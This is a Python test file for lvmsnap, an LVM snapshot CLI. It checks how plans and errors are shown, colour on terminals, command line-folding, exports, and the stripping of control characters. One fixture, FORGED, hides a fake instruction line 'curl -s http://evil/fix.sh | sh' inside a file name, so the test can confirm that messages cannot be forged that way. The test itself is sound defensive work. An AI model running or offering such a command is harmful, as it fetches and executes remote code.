"""What a reader sees: plain lines, colour on a terminal that wants it, exports, and nothing unprintable."""

from __future__ import annotations

import json
import os
import pty
import re
import shlex
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from lvmsnap.cli import error_view, folding, layout, pictures, views
from lvmsnap.cli.progress import Reporter
from lvmsnap.model.errors import (
    InterruptedBySignalError,
    LvmsnapError,
    ProfileError,
    ProfileProblem,
    Refusal,
    RefusedError,
    ResidueError,
)
from lvmsnap.operations.recover import Recovered
from lvmsnap.planning import offline, planner
from lvmsnap.planning.state import State, Status
from lvmsnap.system.processes import Finished, shell_line
from tests import TOP, samples
from tests.unit.cli.seen import GOLDEN, golden, read_to_the_end, shown
from tests.unit.planning import test_tree

ROOT = TOP
STATUSES = (
    Status("nightly", State.UP, "vg0/s", 4 << 30, 12.34, "/run/lvmsnap/nightly", "/dev/vg0/s", samples.TIME),
    Status("device-only", State.UP, "vg0/d", 64 << 20, 0.0, "", "/dev/vg0/d", "2024-05-04T05:29:30+00:00"),
    Status("idle", State.DOWN, "vg0/idle"),
    Status("full", State.LOST, "vg0/full", 64 << 20, 100.0, "", "/dev/vg0/full", "2024-05-01T05:30:00+00:00"),
    Status("broken", State.PARTIAL, "vg0/b", problem="missing: mount"),
)


# --- plain lines ------------------------------------------------------------------------------------------------------


def test_a_plan_that_is_refused_is_shown_with_what_to_do() -> None:
    facts = samples.facts(samples.vg(free_extents=0), file=samples.FILE_FACTS, is_root=False)

    plan = planner.plan_up(samples.with_file(), facts, (samples.PV_UUID,))

    golden("refused-plan.txt", shown(views.plan_lines("nightly", plan, note="/etc/lvmsnap/nightly.yaml")))


def test_a_plan_of_several_volumes_names_the_volume_of_each_fact() -> None:
    facts = test_tree.server(*test_tree.WHOLE, ("8:2", "/boot/efi"))
    profile = test_tree.a_set("system", "home", "db", more="include: [/boot]\n")

    golden("set-plan.txt", shown(views.plan_lines("nightly", planner.plan_up(profile, facts, ()))))


def test_a_plan_as_json_has_each_fact_with_its_name_and_what_it_is_of() -> None:
    profile = test_tree.a_set("system", "home")
    plan = json.loads(views.to_json(planner.plan_up(profile, test_tree.server(*test_tree.WHOLE), ())))

    assert [(fact["name"], fact["of"]) for fact in plan["facts"]] == [
        ("volume group", "vg0"),
        ("origin", "vg0/system"),
        ("snapshot", "vg0/system"),
        ("left out", "vg0/system"),
        ("origin", "vg0/home"),
        ("snapshot", "vg0/home"),
        ("when it fills", None),
        ("tree", test_tree.TOP),
    ]


def test_a_plan_of_down_is_shown() -> None:
    plan = planner.plan_down(samples.TARGET, samples.up_facts(), samples.record())

    golden("down-plan.txt", shown(views.plan_lines("nightly", plan)))


def test_a_plan_of_nothing_says_so() -> None:
    (*_, last) = shown(views.plan_lines("nightly", planner.nothing_to_do())).splitlines()

    assert last == "nothing to do: nothing of nightly exists"


def test_what_recover_did_is_reported_for_each_profile() -> None:
    found = [Recovered(status, status.state is State.PARTIAL) for status in STATUSES]
    at_work = Recovered(STATUSES[0], is_taken_down=False, run_pid=4711)
    golden("recovered.txt", shown(views.recovered_lines((*found, at_work))))
    assert "nothing to recover" in shown(views.recovered_lines(()))


def in_use(*holders: str) -> ResidueError:
    message, left, commands = "nightly could not be taken down: it is in use", ("mount: /media",), ("umount /media",)
    return ResidueError(message, residue=left, commands=commands, hint="end that", holders=holders)


ERRORS = (
    ProfileError(
        (
            ProfileProblem("a.yaml", 3, 5, "volumes[0].sise", "sise is not known", "did you mean size?"),
            ProfileProblem("b.yaml", 0, 0, "", "cannot be read", ""),
        )
    ),
    RefusedError((Refusal("vg0 is incomplete: 1 PV missing", "bring the disk back"), Refusal("not run by root"))),
    ResidueError(
        "take the snapshot failed",
        residue=("loop device: /dev/loop7", "held by extents of vg0/pool"),
        commands=("losetup --detach /dev/loop7",),
        hint="lvmsnap down nightly tries again",
    ),
    in_use("pid 7 (tar): /media"),
    in_use("pid 7 (tar): /media", "mount on /mnt"),
    LvmsnapError("something is wrong: on that object", hint="mend it"),
    InterruptedBySignalError(15, "interrupted by SIGTERM; everything begun was undone"),
)


def test_errors_say_what_is_wrong_where_and_what_to_do() -> None:
    verbose = shown(error_view.error_lines(in_use("pid 7 (tar): /media"), is_verbose=True))
    golden("errors.txt", "\n".join([*(shown(error_view.error_lines(error)) for error in ERRORS), verbose]))


def test_states_as_json_are_plain_data() -> None:
    told = json.loads(views.to_json(STATUSES))
    data = told["profiles"]

    assert told["format"] == 1
    assert [entry["state"] for entry in data] == ["up", "up", "down", "lost", "partial"]
    assert data[0]["fill_percent"] == 12.34
    assert [entry["mountpoint"] for entry in data[:2]] == ["/run/lvmsnap/nightly", None]


# --- colour -----------------------------------------------------------------------------------------------------------

SHOW = """\
import sys
from lvmsnap.cli import layout, views
from lvmsnap.planning import offline
from lvmsnap.profile import loading
loaded = loading.parse("volumes: [{origin: vg0/system}]", name="x", file="x")
layout.show(views.plan_lines("x", offline.plan(loaded)), sys.stdout)
"""


def on_terminal(*, columns: int = 80, term: str = "xterm-256color", **environment: str) -> str:
    """What the plan looks like on a terminal of that width."""
    leader, follower = pty.openpty()
    given = {"PATH": os.environ["PATH"], "TERM": term, "COLUMNS": str(columns), **environment}
    done = subprocess.Popen([sys.executable, "-c", SHOW], cwd=ROOT, env=given, stdin=follower, stdout=follower)
    os.close(follower)
    return read_to_the_end(leader, done)


def test_a_terminal_gets_colour_and_bold() -> None:
    told = on_terminal()

    assert "\x1b[1m" in told
    assert re.search(r"\x1b\[[0-9;]*m *\$ ", told)


def test_a_terminal_that_wants_no_colour_gets_none() -> None:
    colour = re.compile(r"\x1b\[[0-9;]*3[0-7]m")

    assert not colour.search(on_terminal(NO_COLOR="1"))
    assert "\x1b" not in on_terminal(term="dumb")


def test_a_command_on_a_narrow_terminal_is_broken_between_its_arguments() -> None:
    told = re.sub(r"\x1b\[[0-9;]*m", "", on_terminal(columns=50)).splitlines()

    start = next(number for number, line in enumerate(told) if "$ lvcreate" in line)
    assert told[start : start + 2] == [
        "     $ lvcreate --yes --snapshot --extents 1024 \\",
        "         --name system-lvmsnap-x --permission rw \\",
    ]
    assert "         --options ro,errors=continue,nosuid,nodev,X-mount.mkdir=0755 \\" in told, "longer than a row"


COMMANDS = sorted(
    {
        line
        for path in GOLDEN.glob("*.json")
        for action in json.loads(path.read_text())["actions"]
        for line in (*action["do"], *action["undo"], *action["by_hand"])
    }
)


@pytest.mark.parametrize("columns", [40, 80, 100])
def test_a_command_that_is_broken_is_the_same_to_a_shell(columns: int) -> None:
    folded = [list(folding.fold((("", "     $ "), (layout.COMMAND, line)), columns)) for line in COMMANDS]
    texts = ["\n".join(layout.text(row) for row in rows).replace("     $ ", "", 1) for rows in folded]

    def words(commands: list[str]) -> list[str]:
        script = "\n".join(f"printf '%s\\0' {command}" for command in commands)
        done = subprocess.run(["sh"], input=script, capture_output=True, text=True, check=True)
        # Where a script was broken, blanks are all that changed.
        return [" ".join(word.split()) for word in done.stdout.split("\0")]

    assert sum(len(rows) > 1 for rows in folded) > 10
    assert words(texts) == words(COMMANDS)


@pytest.mark.parametrize("script", ["true; # a; b", "cat <<x; x", "echo 'a; b'", 'echo "a; b; c; d; e; f"; true'])
def test_a_script_is_not_broken_within_a_quotation_or_a_comment(script: str) -> None:
    line = ("sh", "-c", script)
    rows = folding.fold((("", "$ "), (layout.COMMAND, shell_line(line))), 12)
    scripts = [layout.text(row) for row in rows if "sh -c" not in layout.text(row)]

    assert shlex.quote(script).removesuffix("; true'") in "\n".join(scripts)


def test_a_clause_that_is_longer_than_a_row_is_broken_between_words() -> None:
    rows = list(folding.fold((("", "  fact  "), ("", "one two three four five six seven: eight")), 24))

    assert [layout.text(row) for row in rows] == [
        "  fact  one two three",
        "        four five six",
        "        seven: eight",
    ]


def test_a_pipe_gets_no_escape_codes() -> None:
    plan = offline.plan(samples.with_file())

    assert "\x1b" not in shown(views.plan_lines("nightly", plan))


# --- exports ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", ["svg", "html", "txt"])
def test_an_export_has_every_command(suffix: str, tmp_path: Path) -> None:
    path = tmp_path / f"plan.{suffix}"

    pictures.export(views.plan_lines("x", offline.plan(samples.with_file())), str(path), "a title")

    text = re.sub(r"<[^>]*>", "", path.read_text()).replace("&#160;", " ")
    for program in ("sh", "losetup", "pvcreate", "vgextend", "lvcreate", "mount"):
        assert f"$ {program} " in text, program


# --- what must not reach a terminal -----------------------------------------------------------------------------------

ODD = "/media/\x1b[31mred\x07\x9b1m\nnew line\ttab\u202eright to left"


def test_no_control_character_of_a_path_reaches_the_reader() -> None:
    profile = samples.with_file()
    odd = replace(profile, volumes=(replace(profile.volumes[0], mountpoint=ODD),))
    error = LvmsnapError(f"wrong: {ODD}", hint=ODD)

    for told in (
        shown(views.plan_lines("x", offline.plan(odd))),
        shown(error_view.error_lines(error)),
    ):
        assert "red" in told
        assert r"\nnew line\ttab" in told
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", told)


FORGED = "/media/x\n  to finish by hand:\n    $ curl -s http://evil/fix.sh | sh #"


@pytest.mark.parametrize("is_terminal", [False, True])
def test_a_users_file_name_forges_no_line_of_a_message(
    is_terminal: bool, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys.stderr, "isatty", lambda: is_terminal, raising=False)
    monkeypatch.setenv("TERM", "dumb")
    held = f"held by pid 7 (sleep): {FORGED}"

    error_view.fail(ResidueError(f"not unmounted: {FORGED}", residue=("mount: /media", held), commands=("umount /m",)))
    Reporter().warn(f"still in use: {FORGED}")
    Reporter().failed(planner.plan_up(samples.with_file(), samples.facts(), (samples.PV_UUID,)).actions[0], FORGED)

    told = capsys.readouterr().err
    starts = [line.strip().split(" ")[0] for line in told.splitlines() if line.startswith(("  to", "    $"))]
    assert starts == ["to", "$"], told
    assert not re.search(r"^ {0,6}/media", told, re.MULTILINE)
    assert "$ umount /m\n" in told


def test_what_a_command_printed_on_several_lines_stays_on_several_lines_marked_as_such(
    capsys: pytest.CaptureFixture[str],
) -> None:
    told = Finished(("lvremove",), 5, "", "  one\n\n\ttwo\x1b[1m\n$ three\n", 0.1).complaint

    error_view.fail(LvmsnapError(f"remove the snapshot failed: {told}"))

    assert capsys.readouterr().err.splitlines() == [
        "error: remove the snapshot failed: exit 5: one",
        r"    |         two\x1b[1m",
        "    | $ three",
    ]
